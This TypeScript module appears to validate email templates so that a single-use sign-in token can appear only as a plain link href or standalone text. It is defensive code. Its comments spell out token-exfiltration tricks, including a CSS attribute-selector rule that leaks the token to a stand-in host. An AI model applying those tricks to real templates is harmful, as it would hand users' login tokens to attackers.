import { renderTemplate, TemplateSyntaxError } from '@herald/templating';
import { Parser } from 'htmlparser2';
import { MAX_HTML_DEPTH } from '../templates/template-import';

/**
 * Where a system template may put its single-use link (`{{link}}`: a live sign-in or invitation
 * token). Anywhere a mail client fetches or sends on its own (an image source, a background, a
 * stylesheet, a form action, a ping) or where it joins another URL (`https://x/?t={{link}}`), an
 * edited template would hand the token to another host the moment the email is opened. So the
 * link may stand only as the whole `href` of an `<a>` element, or as text of its own.
 *
 * The check runs on the template rendered with a stand-in link, so it sees what a mail client
 * sees: the HTML is read by a real tokenizer (htmlparser2, as browsers split tags, attributes,
 * quoting, entities, comments and raw-text elements) rather than by patterns a crafted template
 * could slip past; every place the stand-in appears must be one the rule allows, and any left
 * over (in a comment, a tag name, an attribute name) is refused too.
 */

export const LINK_VARIABLE = 'link';

/** Starts like a real link (scheme first), so what joins it joins the real one the same way; nothing in it is escaped. */
const STAND_IN = 'https://link.herald.invalid/verify?token=q7Zk2';

/** Elements whose text is code or is never shown as text: a link there is not a link a person reads. */
const NOT_TEXT = new Set([
  'script',
  'style',
  'textarea',
  'title',
  'noscript',
  'template',
  'iframe',
  'xmp',
  'noembed',
  'noframes',
  'plaintext',
  'object',
  'svg',
  'math',
]);

/** Inline elements: text on either side of them reads as one run, as an autolinker would see it. */
const INLINE = new Set([
  'b',
  'i',
  'u',
  's',
  'em',
  'strong',
  'span',
  'font',
  'small',
  'big',
  'sub',
  'sup',
  'code',
  'tt',
  'mark',
  'abbr',
  'cite',
  'q',
  'del',
  'ins',
  'kbd',
  'samp',
  'var',
  'bdi',
  'bdo',
  'wbr',
]);

/** The link as a word of its own: optionally in `<...>` (RFC 3986, appendix C), optionally ending a sentence. */
const OWN_WORD = new RegExp(`^<?${escapeRegExp(STAND_IN)}>?[.,;:!?]?$`);

const RULE = '{{link}} may stand only as the whole href of an <a> element or as text of its own';

/**
 * CSS can read an href without holding it: `a[href*="k3"] { background: url(https://x/k3) }`, one
 * rule per few characters, sends the token piece by piece to another host. So beside the link,
 * a <style> element may not use attribute selectors, escapes (which could spell either) or
 * @import, and no stylesheet is linked in.
 */
const READS_ATTRIBUTES = /[[\\]|@import/i;
const CSS_RULE =
  'beside {{link}}, a <style> element may not use attribute selectors ([...]), backslash escapes or @import, and no <link> element may load a stylesheet: CSS could read the link and send it to another host';

/** Other variables as their samples, the link as the stand-in. */
function rendered(source: string, samples: Record<string, unknown>, escaping: 'html' | 'none'): string {
  return renderTemplate(source, { ...samples, [LINK_VARIABLE]: STAND_IN }, escaping).output;
}

/**
 * Whether a replacement keeps the link where the rule allows, in every part: for emails about to
 * be sent from a replacement stored before the rule existed. The values are the email's own.
 */
export function keepsLinkInPlace(
  parts: { subject: string | null; body: string; text_body: string | null },
  values: Record<string, unknown>,
): boolean {
  try {
    if (parts.subject !== null && rendered(parts.subject, values, 'none').includes(STAND_IN)) return false;
    if (parts.text_body !== null && misplacedLinkInText(parts.text_body, values).length) return false;
    return misplacedLinkInHtml(parts.body, values).length === 0;
  } catch (err) {
    // One that no longer parses is not sent either.
    if (err instanceof TemplateSyntaxError) return false;
    throw err;
  }
}

/** Faults of the link in a plain-text part (the text body): each place it is not a word of its own. */
export function misplacedLinkInText(source: string, samples: Record<string, unknown>): string[] {
  const text = rendered(source, samples, 'none');
  const joined = text.split(/\s+/).filter((word) => word.includes(STAND_IN) && !OWN_WORD.test(word));
  return joined.length ? [`${RULE} (whitespace around it), not joined to other text such as a URL: found in ${describe(joined[0])}`] : [];
}

/** Faults of the link in the HTML body: each place it is neither an <a> href of its own nor a word of text. */
export function misplacedLinkInHtml(source: string, samples: Record<string, unknown>): string[] {
  const html = rendered(source, samples, 'html');
  const total = count(html, STAND_IN);
  if (total === 0) return [];
  const scan = scanHtml(html);
  if (!scan) return [`the body nests elements deeper than ${MAX_HTML_DEPTH} levels`];
  const faults = [...scan.faults];
  const words = scan.text.split(/\s+/).filter((word) => word.includes(STAND_IN));
  const joined = words.filter((word) => !OWN_WORD.test(word));
  if (joined.length) faults.push(`${RULE}, not joined to other text such as a URL: found in text ${describe(joined[0])}`);
  const placed = scan.hrefs + words.length - joined.length;
  if (!faults.length && placed < total)
    faults.push(`${RULE}: found elsewhere (a comment, a tag or attribute name, or a character reference)`);
  return faults;
}

interface HtmlScan {
  faults: string[];
  /** Links that are the whole href of an <a>. */
  hrefs: number;
  /** Text outside NOT_TEXT elements, other elements turned into spaces. */
  text: string;
}

class TooDeep extends Error {}

function scanHtml(html: string): HtmlScan | undefined {
  const faults: string[] = [];
  const open: string[] = [];
  let hrefs = 0;
  let text = '';
  let css = '';
  const inNotText = () => open.some((name) => NOT_TEXT.has(name));
  const parser = new Parser(
    {
      onopentagname: (name) => {
        if (open.length >= MAX_HTML_DEPTH) throw new TooDeep();
        open.push(name);
        if (!INLINE.has(name)) text += ' ';
      },
      // attribs keeps the first of repeated attributes, as browsers do; a link in a later one is
      // in no attribute counted here, so the count below refuses it.
      onopentag: (name, attribs) => {
        const linked = Object.entries(attribs).filter(([, value]) => value.includes(STAND_IN));
        for (const [attr, value] of linked) {
          if (name === 'a' && attr === 'href' && value === STAND_IN && !inNotText()) hrefs++;
          else faults.push(`${RULE}: found in the ${attr} attribute of <${name}>${value === STAND_IN ? '' : ' joined to other text'}`);
        }
        if (name === 'link') faults.push(CSS_RULE);
        if (name === 'a' && attribs.href === STAND_IN && attribs.ping !== undefined) {
          faults.push(`${RULE}: an <a> carrying it may not have a ping attribute (it reports the link to another host)`);
        }
      },
      onclosetag: (name) => {
        if (name === 'style' && READS_ATTRIBUTES.test(css)) faults.push(CSS_RULE);
        if (name === 'style') css = '';
        open.pop();
        if (!INLINE.has(name)) text += ' ';
      },
      ontext: (data) => {
        if (open[open.length - 1] === 'style') css += data;
        if (!inNotText()) text += data;
        else if (data.includes(STAND_IN)) faults.push(`${RULE}: found inside <${open.find((n) => NOT_TEXT.has(n))}>`);
      },
      oncomment: (data) => {
        if (data.includes(STAND_IN)) faults.push(`${RULE}: found inside a comment`);
        text += ' ';
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  try {
    parser.end(html);
  } catch (err) {
    if (err instanceof TooDeep) return undefined;
    throw err;
  }
  return { faults: [...new Set(faults)], hrefs, text };
}

function count(haystack: string, needle: string): number {
  let n = 0;
  for (let i = haystack.indexOf(needle); i !== -1; i = haystack.indexOf(needle, i + needle.length)) n++;
  return n;
}

/** The offending word with the stand-in shown as {{link}}, cut short. */
function describe(word: string): string {
  const shown = word.split(STAND_IN).join('{{link}}');
  return `"${shown.length > 80 ? `${shown.slice(0, 77)}...` : shown}"`;
}

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
